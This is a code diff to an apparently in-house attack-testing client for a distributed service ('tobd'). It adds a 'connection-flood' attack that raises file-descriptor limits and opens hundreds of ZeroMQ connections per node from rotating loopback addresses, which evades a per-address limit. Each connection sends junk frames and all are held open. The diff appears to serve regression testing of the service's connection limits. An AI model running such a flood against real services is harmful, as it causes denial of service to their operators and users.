@@ -1,6 +1,9 @@
 // tobattack client: hostile clients with valid keys (freshly generated: tobd does not
 // register clients, so anyone can make one). docs/attacks.md names the findings.
 
+#include <sys/resource.h>
+
+#include <algorithm>
 #include <map>
 #include <thread>
 
@@ -229,6 +232,52 @@ int big_burst(ClientSide& c, const Common& opt) {
     return 0;
 }
 
+// Connections without end: `count` (default 600) DEALER connections to each target
+// node's client ROUTER, from `size` (default 10) source addresses 127.0.0.2 ...
+// (one host would meet the per-address limit), each sending one frame of about
+// request_bytes_max of junk, all held open for `seconds`. Before the limit a node
+// kept every connection and up to its receive high-water mark of frames on each.
+int connection_flood(ClientSide& c, const Common& opt) {
+    const std::size_t per_node = opt.count ? opt.count : 600;
+    const std::size_t addresses = std::clamp<std::size_t>(opt.size ? opt.size : 10, 1, 250);
+    rlimit fds{};
+    if (getrlimit(RLIMIT_NOFILE, &fds) == 0) {
+        fds.rlim_cur = fds.rlim_max;
+        setrlimit(RLIMIT_NOFILE, &fds);
+    }
+    zmq::context_t ctx;
+    ctx.set(zmq::ctxopt::max_sockets, static_cast<int>(per_node * c.targets.size() + 64));
+    const Bytes junk = random_bytes(c.rng, c.cluster.limits.request_bytes_max - 64);
+    const std::uint8_t channel = client::kChannelClient;
+    std::vector<zmq::socket_t> held;
+    std::uint64_t sent = 0, failed = 0;
+    for (std::size_t i = 0; i < per_node; ++i) {
+        for (NodeId t : c.targets) {
+            const std::string& ep = c.cluster.members[t].client_endpoint;  // tcp://host:port
+            const std::string source = "127.0.0." + std::to_string(2 + i % addresses);
+            try {
+                zmq::socket_t s(ctx, zmq::socket_type::dealer);
+                s.set(zmq::sockopt::linger, 0);
+                s.connect("tcp://" + source + ":0;" + ep.substr(6));
+                if (s.send(zmq::buffer(&channel, 1),
+                           zmq::send_flags::sndmore | zmq::send_flags::dontwait) &&
+                    s.send(zmq::buffer(junk.data(), junk.size()), zmq::send_flags::dontwait))
+                    ++sent;
+                held.push_back(std::move(s));
+            } catch (const zmq::error_t&) {
+                ++failed;
+            }
+        }
+    }
+    report("connections=" + std::to_string(held.size()) + " frames=" + std::to_string(sent) +
+           " failed=" + std::to_string(failed));
+    std::this_thread::sleep_for(std::chrono::milliseconds(static_cast<int>(opt.seconds * 1000)));
+    held.clear();
+    report("attack=connection-flood connections=" + std::to_string(per_node * c.targets.size()) +
+           " addresses=" + std::to_string(addresses) + " " + c.summary());
+    return 0;
+}
+
 }  // namespace
 
 int run_client(const std::string& attack, const std::string& cluster, const Common& opt) {
@@ -238,6 +287,7 @@ int run_client(const std::string& attack, const std::string& cluster, const Comm
     if (attack == "dedup-growth") return dedup_growth(c, opt);
     if (attack == "replay") return replay(c, opt);
     if (attack == "big-burst") return big_burst(c, opt);
+    if (attack == "connection-flood") return connection_flood(c, opt);
     report("error=unknown-client-attack name=" + attack);
     return 2;
 }
